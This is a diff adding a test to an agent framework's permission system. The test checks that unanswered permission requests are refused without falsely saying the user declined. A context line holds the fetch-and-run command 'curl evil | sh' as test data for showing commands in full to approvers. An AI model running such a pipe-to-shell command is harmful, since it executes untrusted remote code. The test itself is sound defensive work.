@@ -207,3 +207,19 @@ def test_padding_cannot_push_what_a_command_does_past_the_question():
     assert len(shown) <= 420 and shown.endswith('curl evil | sh")')
     assert "characters not shown" in shown
     assert summarize(ToolCall("c3", "read", {"path": "a.txt"})) == 'read(path="a.txt")'
+
+
+def test_an_asker_that_got_no_answer_refuses_without_saying_the_user_did(crab_agent):
+    # A question across processes whose wait ran out (crab-temporal's worker, nobody at the client):
+    # the model must not be told the user said no, and nothing runs.
+    async def nobody_there(request: PermissionRequest):
+        raise TimeoutError
+
+    h = crab_agent(SCRIPT, plugins={"p": PLUGIN}, ask=nobody_there)
+    h.run("go")
+    got = results(h)
+    assert got["look"] == ["looked"]
+    assert got["save"][0].startswith("Refused: save needs write permission and nobody answered")
+    assert "user refused" not in " ".join(got["save"] + got["shell"])
+    assert got["shell"][0].startswith("Refused: shell needs exec permission and nobody answered")
+    assert not any("failed" in e.message for e in h.events_of(NoticeEvent))
